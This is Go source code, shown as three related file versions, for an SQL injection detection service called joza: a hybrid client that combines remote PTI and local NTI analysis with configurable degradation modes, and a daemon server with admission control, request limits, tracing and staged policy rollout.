// the error, fail closed (synthesize an attack verdict), or fail open
// (serve the NTI-only verdict). Degraded checks are counted in the
// collector's DegradedChecks.
func (h *HybridClient) Check(query string, inputs []nti.Input) (core.Verdict, error) {
	span := h.tracer.Start(query)
	var start time.Time
	sampled := h.collector.SampleLatency()
	if sampled {
		start = time.Now()
	}
	v := core.Verdict{Query: query}
	reply, err := h.transport.Analyze(query)
	switch {
	case err == nil:
		v.PTI = reply.Result()
		// Fold the daemon's view of this check into our span: its lex and
		// cover timings, cache outcome and cover evidence.
		span.Merge(reply.Trace)
	case h.degrade == DegradeFailOpen:
		h.collector.RecordDegraded()
		span.SetDegraded()
		v.PTI = core.Result{Analyzer: core.AnalyzerPTI}
	case h.degrade == DegradeFailClosed:
		h.collector.RecordDegraded()
		span.SetDegraded()
		v.PTI = core.Result{
			Analyzer: core.AnalyzerPTI,
			Attack:   true,
			Reasons: []core.Reason{{
				Detail: fmt.Sprintf("PTI daemon unavailable (fail-closed): %v", err),
			}},
		}
	default:
		return core.Verdict{}, fmt.Errorf("pti analysis: %w", err)
	}
	if h.nti != nil {
		// On the daemon path NTI reuses the daemon's token stream; on a
		// degraded check it passes nil and lexes on demand.
		var toks []sqltoken.Token
		if reply != nil {
			toks = reply.TokenStream()
		}
		v.NTI = h.nti.AnalyzeTraced(query, toks, inputs, span)
	} else {
		v.NTI = core.Result{Analyzer: core.AnalyzerNTI}
	}
	v.Attack = v.NTI.Attack || v.PTI.Attack
	elapsed := time.Duration(-1)
	if sampled {
		elapsed = time.Since(start)
	}
	h.collector.RecordCheck(v.NTI.Attack, v.PTI.Attack, elapsed)
	if span != nil {
		span.SetVerdict(v.NTI.Attack, v.PTI.Attack)
		h.tracer.Finish(span)
		h.collector.ObserveStageDurations(span.LexNs, span.PTICoverNs, span.NTIMatchNs)
	}
	if v.Attack && h.audit != nil {
		h.audit.Log(v, h.policy, inputs)
	}
	return v, nil
}

// Metrics returns a snapshot of the client's counters: checks, attacks
// per analyzer, degraded checks and latency quantiles — the operator view
// Guard.Metrics provides, for remote deployments. PTI cache fields stay
// zero here; the daemon's "stats" verb reports those.
func (h *HybridClient) Metrics() metrics.Snapshot { return h.collector.Snapshot() }

// Traces snapshots the client's trace rings (empty without WithTracing).
// These are the application-side traces, with daemon spans merged in; the
// daemon's own rings are served by its "traces" verb.
func (h *HybridClient) Traces() trace.Dump { return h.tracer.Dump() }

// Tracer exposes the client's tracer so callers can share it with an
// observability server (nil without WithTracing).
func (h *HybridClient) Tracer() *trace.Tracer { return h.tracer }

// Authorize returns nil for safe queries and an *core.AttackError
// otherwise.
func (h *HybridClient) Authorize(query string, inputs []nti.Input) error {
	v, err := h.Check(query, inputs)
	if err != nil {
		return err
	}
	if !v.Attack {
		return nil
	}
	return &core.AttackError{Verdict: v, Policy: h.policy}
}

// Close releases the underlying transport.
func (h *HybridClient) Close() error { return h.transport.Close() }
