package daemon

import (
	"context"
	"fmt"
	"io"

	"joza/internal/audit"
	"joza/internal/core"
	"joza/internal/engine"
	"joza/internal/guardrail"
	"joza/internal/metrics"
	"joza/internal/nti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// DegradeMode selects what a HybridClient does with a check when the PTI
// transport is unavailable (daemon restart, network fault, exhausted
// reconnection attempts).
type DegradeMode int

const (
	// DegradeError propagates the transport error to the caller, who
	// decides (the legacy behaviour and the default).
	DegradeError DegradeMode = iota
	// DegradeFailClosed treats daemon outage as an attack: no query runs
	// unverified, at the cost of availability during the outage.
	DegradeFailClosed
	// DegradeFailOpen skips PTI and serves the NTI-only verdict: the
	// request path stays up and the hybrid's other half still screens
	// every input, at the cost of PTI coverage during the outage.
	DegradeFailOpen
)

// String names the mode for logs and flags.
func (m DegradeMode) String() string {
	switch m {
	case DegradeFailClosed:
		return "fail-closed"
	case DegradeFailOpen:
		return "fail-open"
	default:
		return "error"
	}
}

// HybridClient composes the deployed pieces exactly as Figure 5 shows:
// queries go to the PTI daemon first; the returned token stream feeds the
// in-application NTI analysis; the query is safe iff both agree. It is a
// thin front door over the shared internal/engine pipeline — a remote PTI
// stage (transport plus degradation policy) followed by the standard NTI
// stage — so metrics, tracing and audit recording are the engine's single
// post-verdict path, the same operator surface the in-process Guard
// provides.
type HybridClient struct {
	transport Transport
	eng       *engine.Engine
	policy    core.Policy
	tracer    *trace.Tracer

	// construction-time configuration consumed by NewHybridClient.
	nti            *nti.Analyzer
	degrade        DegradeMode
	collector      *metrics.Collector
	audit          *audit.Logger
	strictProfiles bool
	dialect        sqltoken.Dialect
}

// HybridOption configures a HybridClient.
type HybridOption func(*HybridClient)

// WithDegradeMode sets the degradation policy applied when the transport
// reports an error (default DegradeError).
func WithDegradeMode(m DegradeMode) HybridOption {
	return func(h *HybridClient) { h.degrade = m }
}

// WithCollector records verdicts into c — shared, for example, across
// several clients of one daemon. By default each HybridClient gets its
// own collector, readable via Metrics.
func WithCollector(c *metrics.Collector) HybridOption {
	return func(h *HybridClient) { h.collector = c }
}

// WithAuditLog writes one JSON line per blocked query to w, the same
// record shape the in-process Guard writes.
func WithAuditLog(w io.Writer) HybridOption {
	return func(h *HybridClient) { h.audit = audit.NewLogger(w) }
}

// WithAuditLogger uses a caller-built audit logger — typically
// audit.NewAsyncLogger, so a slow sink never stalls checks. The client's
// Close flushes and closes it.
func WithAuditLogger(l *audit.Logger) HybridOption {
	return func(h *HybridClient) { h.audit = l }
}

// WithPolicy overrides the recovery policy passed to NewHybridClient.
func WithPolicy(p core.Policy) HybridOption {
	return func(h *HybridClient) { h.policy = p }
}

// WithoutNTI disables the application-side NTI component (PTI-only
// deployments), overriding the analyzer passed to NewHybridClient.
func WithoutNTI() HybridOption {
	return func(h *HybridClient) { h.nti = nil }
}

// WithStrictProfiles escalates a daemon profile verdict of "site-unknown"
// — a call site with no training profile at all — to an attack. Off by
// default: a training coverage gap degrades to "no opinion", not an
// outage.
func WithStrictProfiles() HybridOption {
	return func(h *HybridClient) { h.strictProfiles = true }
}

// WithDialect sets the SQL dialect the hybrid's checks run under (default
// MySQL). It stamps every engine request so the pipeline's dialect
// backstop holds, and should match the transport's configured dialect
// (Client.SetDialect, PoolConfig.Dialect) and the daemon's analyzer — a
// disagreement surfaces as a per-check daemon refusal, resolved by the
// degradation policy. The NTI analyzer passed to NewHybridClient must be
// built with nti.WithDialect to match.
func WithDialect(d sqltoken.Dialect) HybridOption {
	return func(h *HybridClient) { h.dialect = d }
}

// WithTracing samples checks into trace spans per cfg. When the daemon
// also traces, its span rides back on the analyze reply and is merged, so
// one trace shows client-side NTI timing next to daemon-side lexing, cache
// outcome and cover evidence. Traced checks feed the collector's
// per-stage histograms.
func WithTracing(cfg trace.Config) HybridOption {
	return func(h *HybridClient) { h.tracer = trace.New(cfg) }
}

// NewHybridClient builds the application-side hybrid over a transport.
// ntiAnalyzer may be nil to disable NTI (PTI-only deployments).
func NewHybridClient(transport Transport, ntiAnalyzer *nti.Analyzer, policy core.Policy, opts ...HybridOption) *HybridClient {
	h := &HybridClient{transport: transport, nti: ntiAnalyzer, policy: policy}
	for _, o := range opts {
		o(h)
	}
	snap := &engine.Snapshot{NTI: h.nti, Dialect: h.dialect}
	snap.Analyzers = append(snap.Analyzers, remotePTIStage{transport: transport, degrade: h.degrade})
	// The profile stage converts the verdict the daemon attached to the
	// analyze reply; it costs nothing when no reply carries one (no site
	// sent, or a daemon without profiles).
	snap.Analyzers = append(snap.Analyzers, remoteProfileStage{strict: h.strictProfiles})
	if h.nti != nil {
		snap.Analyzers = append(snap.Analyzers, engine.NTIStage{Analyzer: h.nti})
	}
	engOpts := []engine.Option{engine.WithPolicy(h.policy)}
	if h.degrade == DegradeFailOpen {
		// One coherent story per deployment: a client that serves NTI-only
		// verdicts through daemon outages also fails open on a contained
		// panic or blown budget. The other modes keep the engine's
		// fail-closed default.
		engOpts = append(engOpts, engine.WithFailureMode(engine.FailOpen))
	}
	if h.collector != nil {
		engOpts = append(engOpts, engine.WithCollector(h.collector))
	}
	if h.audit != nil {
		engOpts = append(engOpts, engine.WithAuditLogger(h.audit))
	}
	if h.tracer != nil {
		engOpts = append(engOpts, engine.WithTracer(h.tracer))
	}
	h.eng = engine.New(snap, engOpts...)
	return h
}

// remotePTIStage is the engine stage for daemon-backed PTI: one transport
// round trip, the reply's token stream published (lazily decoded) for the
// NTI stage, and the degradation policy applied to transport failures.
type remotePTIStage struct {
	transport Transport
	degrade   DegradeMode
}

// Name implements engine.Analyzer.
func (s remotePTIStage) Name() string { return core.AnalyzerPTI }

// Analyze implements engine.Analyzer.
func (s remotePTIStage) Analyze(ctx context.Context, req engine.Request, st *engine.State) (core.Result, error) {
	var reply *AnalysisReply
	var err error
	if stx, ok := s.transport.(siteTransport); ok && req.Site != "" {
		reply, err = stx.AnalyzeSiteContext(ctx, req.Site, req.Query)
	} else {
		reply, err = s.transport.AnalyzeContext(ctx, req.Query)
	}
	if err == nil {
		// Fold the daemon's view of this check into our span: its lex and
		// cover timings, cache outcome and cover evidence. The token
		// stream decodes only if the NTI stage actually needs it. The raw
		// reply is stashed for the profile stage, which converts the
		// daemon's profile verdict without a second round trip.
		st.Span().Merge(reply.Trace)
		st.PublishTokenSource(reply.TokenStream)
		st.SetAux(reply)
		return reply.Result(), nil
	}
	if cerr := ctx.Err(); cerr != nil {
		// The caller gave up; that is a cancellation, not a daemon
		// outage, so the degradation policy does not apply.
		return core.Result{}, cerr
	}
	switch s.degrade {
	case DegradeFailOpen:
		st.MarkDegraded()
		return core.Result{Analyzer: core.AnalyzerPTI}, nil
	case DegradeFailClosed:
		st.MarkDegraded()
		return core.Result{
			Analyzer: core.AnalyzerPTI,
			Attack:   true,
			Reasons: []core.Reason{{
				Detail: fmt.Sprintf("PTI daemon unavailable (fail-closed): %v", err),
			}},
		}, nil
	default:
		return core.Result{}, fmt.Errorf("pti analysis: %w", err)
	}
}

// remoteProfileStage is the client half of the daemon's query-skeleton
// profile stage: it reads the analyze reply the PTI stage stashed and
// converts its profile verdict into the third analyzer Result. When no
// reply carries a profile verdict — no site on the request, a degraded
// check, or a daemon without profiles — it reports a labeled empty result.
type remoteProfileStage struct {
	// strict escalates "site-unknown" (no training profile for the call
	// site) to an attack.
	strict bool
}

// Name implements engine.Analyzer.
func (s remoteProfileStage) Name() string { return core.AnalyzerProfile }

// Analyze implements engine.Analyzer.
func (s remoteProfileStage) Analyze(ctx context.Context, req engine.Request, st *engine.State) (core.Result, error) {
	res := core.Result{Analyzer: core.AnalyzerProfile}
	reply, ok := st.Aux().(*AnalysisReply)
	if !ok || reply == nil || reply.Profile == nil {
		return res, nil
	}
	p := reply.Profile
	st.Span().SetProfile(p.Site, p.Skeleton, p.Outcome)
	switch {
	case p.Attack:
		res.Attack = true
		detail := p.Detail
		if detail == "" {
			detail = fmt.Sprintf("query skeleton never seen from call site %q during training", p.Site)
		}
		res.Reasons = []core.Reason{{Detail: detail}}
	case s.strict && p.Outcome == "site-unknown":
		res.Attack = true
		res.Reasons = []core.Reason{{Detail: fmt.Sprintf(
			"call site %q has no training profile (strict mode)", p.Site)}}
	}
	return res, nil
}

// CheckContext returns the hybrid verdict for query given the request's
// inputs, bounded by ctx: the deadline rides to the daemon in the wire
// request, cancellation aborts a blocked round trip and the NTI matcher
// mid-analysis, and ctx's error comes back with no verdict recorded.
// When the transport fails (and ctx is still live), the configured
// DegradeMode decides: propagate the error, fail closed (synthesize an
// attack verdict), or fail open (serve the NTI-only verdict). Degraded
// checks are counted in the collector's DegradedChecks.
func (h *HybridClient) CheckContext(ctx context.Context, query string, inputs []nti.Input) (core.Verdict, error) {
	return h.eng.Check(ctx, engine.Request{Query: query, Inputs: inputs, Dialect: h.dialect})
}

// Check is the context-free compatibility wrapper around CheckContext; it
// can still fail when the transport does and DegradeError is configured.
func (h *HybridClient) Check(query string, inputs []nti.Input) (core.Verdict, error) {
	return h.eng.Check(context.Background(), engine.Request{Query: query, Inputs: inputs, Dialect: h.dialect})
}

// CheckContextAt is CheckContext with a call-site identity: the site rides
// to the daemon in the wire request, and the daemon's query-skeleton
// profile verdict becomes the third analyzer vote. Requires a transport
// with site support (Client, Pool, ShardedPool, Direct); others analyze
// without the profile stage.
func (h *HybridClient) CheckContextAt(ctx context.Context, site, query string, inputs []nti.Input) (core.Verdict, error) {
	return h.eng.Check(ctx, engine.Request{Query: query, Inputs: inputs, Site: site, Dialect: h.dialect})
}

// Metrics returns a snapshot of the client's counters: checks, attacks
// per analyzer, degraded checks, containment events and latency quantiles
// — the operator view Guard.Metrics provides, for remote deployments.
// When the transport carries a circuit breaker (a Pool with
// BreakerThreshold set), its state and counters ride along. PTI cache
// fields stay zero here; the daemon's "stats" verb reports those.
func (h *HybridClient) Metrics() metrics.Snapshot {
	snap := h.eng.Collector().Snapshot()
	if bp, ok := h.transport.(interface{ BreakerStats() guardrail.BreakerStats }); ok {
		if st := bp.BreakerStats(); st.State != "" && st.State != "disabled" {
			snap.BreakerState = st.State
			snap.BreakerTrips = st.Trips
			snap.BreakerRejects = st.Rejects
			snap.BreakerProbes = st.Probes
		}
	}
	if sp, ok := h.transport.(interface{ ShardStats() []metrics.ShardHealth }); ok {
		snap.Shards = sp.ShardStats()
	}
	return snap
}

// Traces snapshots the client's trace rings (empty without WithTracing).
// These are the application-side traces, with daemon spans merged in; the
// daemon's own rings are served by its "traces" verb.
func (h *HybridClient) Traces() trace.Dump { return h.tracer.Dump() }

// Tracer exposes the client's tracer so callers can share it with an
// observability server (nil without WithTracing).
func (h *HybridClient) Tracer() *trace.Tracer { return h.tracer }

// AuthorizeContext returns nil for safe queries, an *core.AttackError for
// attacks, and ctx's error when the check was canceled.
func (h *HybridClient) AuthorizeContext(ctx context.Context, query string, inputs []nti.Input) error {
	return h.eng.Authorize(ctx, engine.Request{Query: query, Inputs: inputs, Dialect: h.dialect})
}

// Authorize returns nil for safe queries and an *core.AttackError
// otherwise.
func (h *HybridClient) Authorize(query string, inputs []nti.Input) error {
	return h.eng.Authorize(context.Background(), engine.Request{Query: query, Inputs: inputs, Dialect: h.dialect})
}

// AuthorizeContextAt is AuthorizeContext with a call-site identity (see
// CheckContextAt).
func (h *HybridClient) AuthorizeContextAt(ctx context.Context, site, query string, inputs []nti.Input) error {
	return h.eng.Authorize(ctx, engine.Request{Query: query, Inputs: inputs, Site: site, Dialect: h.dialect})
}

// Close flushes the audit logger (a no-op for synchronous loggers) and
// releases the underlying transport.
func (h *HybridClient) Close() error {
	if h.audit != nil {
		_ = h.audit.Close()
	}
	return h.transport.Close()
}
