package daemon

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"joza/internal/core"
	"joza/internal/guardrail"
	"joza/internal/metrics"
	"joza/internal/profile"
	"joza/internal/pti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// DefaultMaxRequestBytes caps the size of one wire request. A legitimate
// query never approaches it; a client that exceeds it has its connection
// dropped rather than letting it balloon the daemon's memory.
const DefaultMaxRequestBytes = 1 << 20

// DefaultMaxBatchItems caps how many items one "batch" request may carry.
// The frame-size limit already bounds total bytes; this bounds the number
// of admission passes and analyses a single frame can demand. An oversized
// batch is refused with a whole-batch error on a healthy stream.
const DefaultMaxBatchItems = 4096

// Bounds for the capped exponential backoff Serve applies to transient
// Accept failures (EMFILE, ECONNABORTED, ...).
const (
	acceptBackoffMin = 5 * time.Millisecond
	acceptBackoffMax = 1 * time.Second
)

// maxTimeoutMs caps the client-supplied TimeoutMs budget before it is
// multiplied into a time.Duration: a huge positive value would otherwise
// overflow into a negative (already-expired) or wrong deadline. No real
// client waits a day for a microsecond-scale analysis, so the clamp only
// ever bites hostile or corrupted frames.
const maxTimeoutMs = int64(24 * time.Hour / time.Millisecond)

// budgetContext derives the analysis context from a request's TimeoutMs
// budget: zero means no server-side bound, negative is already expired
// (the WithTimeout below yields a done context), and positive values are
// clamped to maxTimeoutMs so the multiplication cannot overflow.
func budgetContext(parent context.Context, timeoutMs int64) (context.Context, context.CancelFunc) {
	if timeoutMs == 0 {
		return parent, func() {}
	}
	if timeoutMs > maxTimeoutMs {
		timeoutMs = maxTimeoutMs
	}
	return context.WithTimeout(parent, time.Duration(timeoutMs)*time.Millisecond)
}

// prepareTimeout bounds the reload-plus-selftest work of one "prepare"
// verb, so a wedged source tree cannot park the rollout mutex forever.
const prepareTimeout = 30 * time.Second

// Serving bundles the analysis state of one daemon generation: the PTI
// analyzer, the query-skeleton profile store, and the content-derived
// snapshot version identifying the generation (empty for unversioned
// deployments). The whole bundle swaps atomically, so a check can never
// see fragments from one generation and profiles from another.
type Serving struct {
	Analyzer *pti.Cached
	Profiles *profile.Store
	// Version is the content-derived snapshot version (see
	// engine.ComputeVersion); a fleet computes it over the unsliced
	// corpus so every shard of one generation reports the same value.
	Version string
}

// Server serves the daemon protocol over a listener. Multiple server
// instances can share one analyzer (the paper's multiple coexisting
// daemons).
type Server struct {
	// serving is the whole analysis generation checks run against;
	// swapped atomically so in-flight requests finish on the bundle they
	// loaded. updateMu serializes the copy-on-write of the partial
	// setters (SetAnalyzer/SetProfiles) against each other and against
	// commit, so concurrent partial swaps cannot lose each other's half.
	serving  atomic.Pointer[Serving]
	updateMu sync.Mutex

	collector *metrics.Collector
	tracer    *trace.Tracer
	gate      *guardrail.Gate

	// recorder, when set, puts the daemon in profile learning mode.
	recorder *profile.Recorder

	// Two-phase rollout state: a prepared-but-not-committed generation,
	// the callback that loads and builds it, and the test hook observing
	// phase transitions. rollMu serializes the rollout verbs.
	rollMu      sync.Mutex
	staged      *Serving
	reloader    func(ctx context.Context) (*Serving, error)
	rolloutHook func(phase string)

	readTimeout time.Duration
	maxRequest  int64
	maxBatch    int

	// Per-op wire counters, reported through Stats.
	analyzeOps atomic.Uint64
	batchOps   atomic.Uint64
	batchItems atomic.Uint64
	statsOps   atomic.Uint64
	tracesOps  atomic.Uint64
	errorOps   atomic.Uint64
	timeouts   atomic.Uint64

	// draining makes connection handlers stop picking up new requests;
	// set by Shutdown before it waits for in-flight work.
	draining atomic.Bool

	// done is closed by the first of Shutdown or Close; Serve's accept
	// backoff selects against it so stopping the server never waits out a
	// sleep mid connection-storm.
	done chan struct{}

	mu     sync.Mutex
	ln     net.Listener
	conns  map[net.Conn]struct{}
	wg     sync.WaitGroup
	closed bool
}

// ServerOption configures a Server.
type ServerOption func(*Server)

// WithReadTimeout drops connections that stay idle — or stall mid-request
// — longer than d between bytes of a request. Zero (the default) disables
// the deadline: a pipe to a co-located application process needs none,
// while a TCP daemon should set one so abandoned sockets can't accumulate.
func WithReadTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.readTimeout = d }
}

// WithMaxRequestBytes caps the size of one wire request (default
// DefaultMaxRequestBytes). Oversized requests break the connection.
func WithMaxRequestBytes(n int64) ServerOption {
	return func(s *Server) {
		if n > 0 {
			s.maxRequest = n
		}
	}
}

// WithMaxBatchItems caps the item count of one "batch" request (default
// DefaultMaxBatchItems). Larger batches are refused with a whole-batch
// error on a healthy stream rather than analyzed.
func WithMaxBatchItems(n int) ServerOption {
	return func(s *Server) {
		if n > 0 {
			s.maxBatch = n
		}
	}
}

// WithAdmission bounds how many analyze requests run concurrently: at
// most limit in flight, with excess requests waiting up to maxWait — or
// the request's own remaining deadline budget, whichever is shorter — for
// a slot before being shed with an "overloaded" error on a healthy
// stream. Shed requests are counted in the stats snapshot's ShedRequests.
// limit <= 0 (the default) disables admission control.
func WithAdmission(limit int, maxWait time.Duration) ServerOption {
	return func(s *Server) { s.gate = guardrail.NewGate(limit, maxWait) }
}

// WithProfiles loads a query-skeleton profile store: analyze requests
// that carry a call site get a profile verdict on the reply. Swap later
// stores with SetProfiles.
func WithProfiles(st *profile.Store) ServerOption {
	return func(s *Server) {
		sv := *s.serving.Load()
		sv.Profiles = st
		s.serving.Store(&sv)
	}
}

// WithServing replaces the initial serving bundle whole — analyzer,
// profiles and snapshot version together. Owners that version their
// snapshots construct with this instead of composing WithProfiles onto
// the NewServer analyzer, so the version labels exactly the state served.
func WithServing(sv *Serving) ServerOption {
	return func(s *Server) { s.serving.Store(sv) }
}

// WithReloader wires the "prepare" verb to f: prepare calls f to load and
// build the next generation's bundle alongside the serving one, self-tests
// it, and stages it for a later "commit". Without a reloader the prepare
// verb is refused on the healthy stream.
func WithReloader(f func(ctx context.Context) (*Serving, error)) ServerOption {
	return func(s *Server) { s.reloader = f }
}

// WithRolloutHook observes rollout phase transitions ("prepare" before
// the reload starts, "commit" before the staged bundle swaps in). Fault
// injection uses it to widen the crash windows the two-phase protocol
// must survive.
func WithRolloutHook(f func(phase string)) ServerOption {
	return func(s *Server) { s.rolloutHook = f }
}

// WithProfileRecorder puts the server in profile learning mode: requests
// with a call site record their skeleton into r and always report
// "learned". Takes precedence over a loaded store.
func WithProfileRecorder(r *profile.Recorder) ServerOption {
	return func(s *Server) { s.recorder = r }
}

// WithTracer makes the server sample analyze requests into t's trace
// rings, serve them through the "traces" verb, attach the daemon-side span
// to sampled analyze replies, and feed the per-stage histograms reported
// by "stats". A nil tracer (the default) disables all of it at zero cost.
func WithTracer(t *trace.Tracer) ServerOption {
	return func(s *Server) { s.tracer = t }
}

// NewServer returns a daemon server over analyzer.
func NewServer(analyzer *pti.Cached, opts ...ServerOption) *Server {
	s := &Server{
		conns:      make(map[net.Conn]struct{}),
		collector:  metrics.NewCollector(),
		maxRequest: DefaultMaxRequestBytes,
		maxBatch:   DefaultMaxBatchItems,
		done:       make(chan struct{}),
	}
	s.serving.Store(&Serving{Analyzer: analyzer})
	for _, o := range opts {
		o(s)
	}
	return s
}

// Stats returns the daemon's counter snapshot: checks and attacks served
// (PTI only — NTI runs application-side), per-op wire activity, the
// analyzer's cache totals and per-shard activity, and analysis latency
// quantiles. Counters survive SetAnalyzer swaps; cache fields reflect the
// current analyzer.
func (s *Server) Stats() StatsReply {
	snap := s.collector.Snapshot()
	snap.DaemonAnalyzeOps = s.analyzeOps.Load()
	snap.DaemonBatchOps = s.batchOps.Load()
	snap.DaemonBatchItems = s.batchItems.Load()
	snap.DaemonStatsOps = s.statsOps.Load()
	snap.DaemonTracesOps = s.tracesOps.Load()
	snap.DaemonErrors = s.errorOps.Load()
	snap.DaemonTimeouts = s.timeouts.Load()
	sv := s.serving.Load()
	snap.SnapshotVersion = sv.Version
	if ps := sv.Profiles; ps != nil {
		snap.ProfileSites = uint64(ps.Sites())
		snap.ProfileSkeletons = uint64(ps.Skeletons())
	} else if s.recorder != nil {
		sites, skeletons := s.recorder.Len()
		snap.ProfileSites = uint64(sites)
		snap.ProfileSkeletons = uint64(skeletons)
	}
	analyzer := sv.Analyzer
	st := analyzer.Stats()
	snap.CacheQueryHits = st.QueryHits
	snap.CacheStructureHits = st.StructureHits
	snap.CacheMisses = st.Misses
	queryShards, _ := analyzer.ShardStats()
	if len(queryShards) > 0 {
		snap.CacheShards = make([]metrics.CacheShard, len(queryShards))
		for i, sh := range queryShards {
			snap.CacheShards[i] = metrics.CacheShard{
				Hits: sh.Hits, Misses: sh.Misses, Entries: sh.Entries,
			}
		}
	}
	return snap
}

// SetAnalyzer atomically swaps the analyzer; in-flight requests finish on
// the old one. The preprocessing component uses this after the installer
// detects new or modified application files (Section IV-B). A partial
// swap changes half a generation, so the serving version resets to
// unversioned; use SetServing (or the rollout verbs) to install a whole
// versioned generation.
func (s *Server) SetAnalyzer(analyzer *pti.Cached) {
	s.updateMu.Lock()
	defer s.updateMu.Unlock()
	sv := *s.serving.Load()
	sv.Analyzer = analyzer
	sv.Version = ""
	s.serving.Store(&sv)
}

// SetProfiles atomically swaps the query-skeleton profile store;
// in-flight requests finish on the old one. The reload path uses this
// exactly like SetAnalyzer, with the same version reset.
func (s *Server) SetProfiles(st *profile.Store) {
	s.updateMu.Lock()
	defer s.updateMu.Unlock()
	sv := *s.serving.Load()
	sv.Profiles = st
	sv.Version = ""
	s.serving.Store(&sv)
}

// SetServing atomically swaps the whole serving bundle — analyzer,
// profiles and version together. Coordinated reload paths (jozad's
// unified watch loop, the commit verb) use this so checks can never mix
// halves of two generations.
func (s *Server) SetServing(sv *Serving) {
	s.updateMu.Lock()
	defer s.updateMu.Unlock()
	s.serving.Store(sv)
}

// Version returns the serving snapshot's content-derived version ("" for
// unversioned state).
func (s *Server) Version() string { return s.serving.Load().Version }

// Ready reports whether the server can answer analyze traffic: a serving
// bundle is installed and the server is not draining. The obs /readyz
// probe fronts this — distinct from liveness, it flips false the moment a
// drain begins, before the server stops accepting.
func (s *Server) Ready() bool {
	return s.serving.Load().Analyzer != nil && !s.draining.Load()
}

// Serve accepts connections until Close. Transient Accept failures —
// EMFILE under connection storms, ECONNABORTED from connections reset
// before accept — are retried with capped exponential backoff instead of
// killing the daemon; only listener closure ends the loop. Always returns
// a non-nil error.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		// Close raced ahead of listener registration and could not reach
		// ln; close it here, or the kernel keeps completing handshakes into
		// a backlog nothing will ever accept and clients hang to their
		// timeout instead of failing fast.
		_ = ln.Close()
		return net.ErrClosed
	}
	s.ln = ln
	s.mu.Unlock()
	var backoff time.Duration
	for {
		conn, err := ln.Accept()
		if err != nil {
			if s.isClosed() || errors.Is(err, net.ErrClosed) {
				return err
			}
			if backoff == 0 {
				backoff = acceptBackoffMin
			} else if backoff *= 2; backoff > acceptBackoffMax {
				backoff = acceptBackoffMax
			}
			// Sleep interruptibly: Shutdown and Close close s.done, so a
			// stop request issued mid connection-storm is not delayed by up
			// to a full backoff period.
			timer := time.NewTimer(backoff)
			select {
			case <-timer.C:
			case <-s.done:
				timer.Stop()
				return net.ErrClosed
			}
			continue
		}
		backoff = 0
		if !s.track(conn) {
			_ = conn.Close()
			return net.ErrClosed
		}
		go func() {
			defer s.wg.Done()
			s.ServeConn(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

func (s *Server) isClosed() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.closed
}

func (s *Server) track(conn net.Conn) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return false
	}
	s.conns[conn] = struct{}{}
	s.wg.Add(1)
	return true
}

// ServeConn serves a single established connection until it closes. It is
// exported so a daemon can be run over a pre-connected pipe (the paper's
// anonymous-pipe, one-request lifetime mode).
func (s *Server) ServeConn(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	lr := &io.LimitedReader{R: conn, N: s.maxRequest}
	dec := json.NewDecoder(bufio.NewReader(lr))
	enc := json.NewEncoder(conn)
	for {
		if s.draining.Load() {
			return
		}
		// Reset the per-request byte budget. The buffered reader may hold
		// bytes already admitted under an earlier budget; the limit bounds
		// what one request can pull off the wire, not exact accounting.
		lr.N = s.maxRequest
		if s.readTimeout > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(s.readTimeout))
			// Re-check after arming the deadline: Shutdown slams every
			// connection's read deadline, and this one may just have been
			// overwritten by the line above.
			if s.draining.Load() {
				return
			}
		}
		var req wireRequest
		if err := dec.Decode(&req); err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				s.timeouts.Add(1)
			}
			return
		}
		var resp wireResponse
		switch req.Op {
		case "", "analyze":
			s.analyzeOps.Add(1)
			s.handleAnalyze(req, &resp)
		case "batch":
			s.batchOps.Add(1)
			s.handleBatch(req, &resp)
		case "stats":
			s.statsOps.Add(1)
			st := s.Stats()
			resp.Stats = &st
		case "traces":
			s.tracesOps.Add(1)
			d := s.tracer.Dump()
			resp.Traces = &d
		case "prepare":
			s.handlePrepare(&resp)
		case "commit":
			s.handleCommit(req, &resp)
		case "abort":
			s.handleAbort(&resp)
		default:
			s.errorOps.Add(1)
			resp.Err = fmt.Sprintf("unknown op %q", req.Op)
		}
		if err := enc.Encode(resp); err != nil {
			s.errorOps.Add(1)
			return
		}
	}
}

// dialectError resolves a wire request's dialect field against the serving
// analyzer's: absent means MySQL (the protocol's original implicit
// dialect), an unknown name or a mismatch returns a non-empty refusal that
// rides the healthy stream. The daemon never analyzes across dialects —
// boundary bytes (string escapes, quote kinds, placeholders, comments)
// mean different things under different dialects, so a cross-dialect
// verdict would be wrong, not approximate.
func dialectError(wire string, serving sqltoken.Dialect) string {
	d := sqltoken.MySQL
	if wire != "" {
		var err error
		if d, err = sqltoken.ParseDialect(wire); err != nil {
			return err.Error()
		}
	}
	if d != serving {
		return fmt.Sprintf("dialect mismatch: request is %s, daemon analyzes %s", d, serving)
	}
	return ""
}

// handleAnalyze runs one analyze request: dialect validation, admission,
// the deadline-bounded analysis, and verdict recording. Failures ride back
// as resp.Err on the still-healthy stream — an overloaded, over-budget or
// cross-dialect request costs one reply, not the connection.
func (s *Server) handleAnalyze(req wireRequest, resp *wireResponse) {
	sv := s.serving.Load()
	analyzer := sv.Analyzer
	if msg := dialectError(req.Dialect, analyzer.Dialect()); msg != "" {
		s.errorOps.Add(1)
		resp.Err = msg
		return
	}
	if req.Version != "" && req.Version != sv.Version {
		// The client pinned the check to a policy generation this daemon
		// is not serving (mid-rollout skew, or a garbage version from a
		// corrupted frame). Answering from the wrong generation would be
		// wrong, not approximate, so the pin is refused on the healthy
		// stream — per item inside a batch — and the connection lives on.
		s.errorOps.Add(1)
		resp.Err = fmt.Sprintf("version mismatch: request pinned to snapshot %q, daemon serves %q", req.Version, sv.Version)
		return
	}
	// Honor the client's propagated deadline budget: bound the analysis
	// with a matching context so server-side work the client has stopped
	// waiting for is abandoned, not finished. A negative budget arrives
	// already expired; an absurdly large one is clamped before the
	// millisecond multiplication so it cannot overflow into an expired
	// (or wrong) deadline.
